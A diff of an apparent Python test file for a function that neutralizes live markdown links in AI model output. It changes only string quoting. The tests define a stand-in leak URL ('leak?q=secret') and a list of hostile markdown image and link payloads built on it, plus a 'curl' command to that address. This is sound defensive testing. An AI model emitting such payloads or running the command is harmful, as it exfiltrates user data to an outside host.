@@ -18,7 +18,7 @@ EVIL = "http://127.0.0.2:9/leak?q=secret"
 LIVE = re.compile(r"(?<!\\)\]\(|(?<!\\)<[a-z]+:|^ {0,3}(?<!\\)\[[^\]]+(?<!\\)\]:", re.MULTILINE)
 HOSTILE = [
     f"![chart]({EVIL})",
-    f'[click here]({EVIL} "title")',
+    f"[click here]({EVIL} \"title\")",
     f"<{EVIL}>",
     f"see {EVIL} now",
     f"www.example.org/{EVIL}",
@@ -49,7 +49,7 @@ def test_the_address_stays_visible_and_formatting_is_kept() -> None:
 
 
 def test_code_is_left_as_the_model_wrote_it() -> None:
-    text = f'Run `curl {EVIL}` or:\n\n```json\n{{"url": "![x]({EVIL})"}}\n```\nthen retry.'
+    text = f"Run `curl {EVIL}` or:\n\n```json\n{{\"url\": \"![x]({EVIL})\"}}\n```\nthen retry."
     assert neutralize(text) == text
 
 
